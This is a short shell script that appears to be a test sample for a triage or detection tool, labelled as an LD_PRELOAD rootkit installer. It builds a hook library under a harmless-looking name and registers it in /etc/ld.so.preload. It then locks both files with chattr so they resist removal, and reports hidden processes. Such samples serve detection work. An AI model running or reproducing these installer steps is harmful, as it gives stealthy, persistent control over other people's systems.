#!/bin/sh
# triage-expect: triage_ld_preload_rootkit_installer
# Installer of a preload rootkit, as such scripts go: build the library, register it, lock it.
LIB=/usr/lib/x86_64-linux-gnu/libsample_cache.so
PRELOAD_FILE=/etc/ld.so.preload
gcc -Wall -fPIC -shared -o "$LIB" hook.c -ldl
echo "$LIB" > "$PRELOAD_FILE"
chattr +ia "$LIB" "$PRELOAD_FILE"
echo "hide processes: ok"
